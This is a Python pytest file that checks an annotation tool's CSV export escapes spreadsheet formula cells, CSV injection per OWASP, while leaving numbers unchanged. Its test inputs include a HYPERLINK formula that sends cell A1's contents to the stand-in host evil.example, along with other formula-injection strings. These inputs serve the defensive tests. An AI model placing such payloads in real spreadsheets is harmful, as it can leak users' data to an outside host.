"""CSV cells a spreadsheet would run as formulas are written as text (OWASP); numbers stay."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

from annotator.exports.writers import csv_stream, matrix_csv_stream, spreadsheet_cells


@pytest.mark.parametrize("text", [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+SUM(1+1)", "-2+3", "@SUM(A1)",
    "\t=1+1", "\r=1+1",
])
def test_text_that_starts_a_formula_gets_a_leading_quote(text):
    assert spreadsheet_cells([text]) == ["'" + text]
    written = "".join(csv_stream(["title"], [[text]]))
    assert list(csv.reader(io.StringIO(written, newline=""))) == [["title"], ["'" + text]]


def test_numbers_and_plain_text_pass_unchanged():
    cells = [-0.25, -3, 0, None, True, "fact", "", " =not at the start", "a=b", "'=already"]
    assert spreadsheet_cells(cells) == cells


def test_a_negative_number_stays_a_bare_number_and_negative_text_is_escaped():
    written = "".join(csv_stream(["alpha", "note"], [[-0.25, "-0.25"]]))
    assert written.splitlines()[1] == "-0.25,\"'-0.25\""
    frame = pd.read_csv(io.StringIO(written))
    assert frame["alpha"].tolist() == [-0.25] and frame["note"].tolist() == ["'-0.25"]


def test_the_matrix_escapes_text_and_keeps_codes_and_na():
    written = "".join(matrix_csv_stream(["unit_id", "queue", "-r"], [[1, "=q", 2], [2, "q", None]]))
    assert written.splitlines() == ['"unit_id","queue","\'-r"', "1,\"'=q\",2", '2,"q",NA']


def test_comment_lines_cut_into_cells_start_no_formula():
    comment = '# filter: outlet A,=HYPERLINK("x");@SUM(1)\t-3\n# R: m[, -(1:4)]\n'
    written = "".join(csv_stream(["a"], [[1]], comment=comment))
    lines = written.splitlines()
    assert lines[0] == "# filter: outlet A,'=HYPERLINK(\"x\");'@SUM(1)\t'-3"
    assert lines[1] == "# R: m[, -(1:4)]"  # a space before the sign: not a formula, kept
    assert pd.read_csv(io.StringIO(written), comment="#")["a"].tolist() == [1]
